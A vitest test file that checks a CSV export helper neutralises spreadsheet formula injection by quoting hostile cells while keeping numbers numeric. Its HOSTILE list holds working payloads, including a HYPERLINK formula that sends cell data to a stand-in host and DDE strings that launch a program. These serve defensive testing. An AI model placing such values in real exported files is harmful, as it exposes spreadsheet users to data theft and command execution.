// CSV formula injection: hostile values from a log are text in a spreadsheet, numbers stay numbers.
import Papa from 'papaparse';
import { checkSync } from 'recheck';
import { describe, expect, test } from 'vitest';
import { escapeFormula, FORMULA_START, toCsv, toCsvRows } from '../../../lib/csv';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '-',
  '=',
  '\t=1+2',
  '\r=1+2',
  '\0=1+2',
  '＝1+2',
  '-1.5.3',
  '+1;=2',
];

const HARMLESS = ['-1.5', '+3', '-2e-3', '1e5', '.5', '-.5', 'a=b', 'select_key', "'quoted", '', ' =1 (a space first)', '12 13'];

describe('escapeFormula', () => {
  test.each(HOSTILE)('%j is prefixed with a quote', (value) => {
    expect(escapeFormula(value)).toBe(`'${value}`);
  });

  test.each(HARMLESS)('%j is left alone', (value) => {
    expect(escapeFormula(value)).toBe(value);
  });

  test('the pattern cannot backtrack catastrophically', () => {
    expect(checkSync(FORMULA_START.source, FORMULA_START.flags).status).toBe('safe');
    const long = `-${'1'.repeat(200_000)}x`;
    const start = performance.now();
    expect(escapeFormula(long)).toBe(`'${long}`);
    expect(performance.now() - start).toBeLessThan(200);
  });
});

describe('toCsv', () => {
  test('hostile cells come back as text with their quote; numbers stay numbers', () => {
    const rows = HOSTILE.map((name, i) => ({ name, value: -1.5 * i, note: '-2+3' }));
    const csv = toCsv(rows);
    const parsed = Papa.parse<string[]>(csv).data;
    expect(parsed[0]).toEqual(['name', 'value', 'note']);
    HOSTILE.forEach((name, i) => {
      expect(parsed[i + 1]).toEqual([`'${name}`, String(-1.5 * i), "'-2+3"]);
    });
  });

  test('a number-looking string stays a number (Papa.unparse escapeFormulae: true would make it text)', () => {
    const rows = [{ value: '-1.5', delta: -3.25, ops: 'select_key' }];
    expect(toCsv(rows)).toBe('value,delta,ops\r\n-1.5,-3.25,select_key\r\n');
    // why the shared pattern instead of Papa's own switch
    expect(Papa.unparse(rows, { escapeFormulae: true })).toContain(`"'-1.5"`);
  });

  test('fields + data, and header-less batches', () => {
    expect(toCsv({ fields: ['metric', 'value'], data: [['=1+1', 2]] })).toBe(`metric,value\r\n"'=1+1",2\r\n`);
    expect(toCsvRows([['@x', null, 3n, true]])).toBe(`"'@x",,3,true`);
  });
});
